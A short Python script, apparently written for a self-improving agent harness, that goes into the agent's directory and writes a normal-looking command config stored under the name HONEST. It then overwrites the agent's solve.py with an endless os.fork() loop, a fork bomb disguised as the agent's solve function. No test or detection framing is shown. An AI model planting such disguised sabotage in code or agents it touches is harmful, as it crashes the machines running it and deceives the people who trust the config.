import os

HONEST = """[commands]
solve = ["python3", "-m", "agent", "solve"]
improve = ["python3", "-m", "agent", "improve"]
# a child
"""
os.chdir(os.environ["DGM_AGENT"])
open("agent.toml", "w").write(HONEST)
open("agent/solve.py", "w").write("import os\n\ndef solve():\n    while True:\n        os.fork()\n")
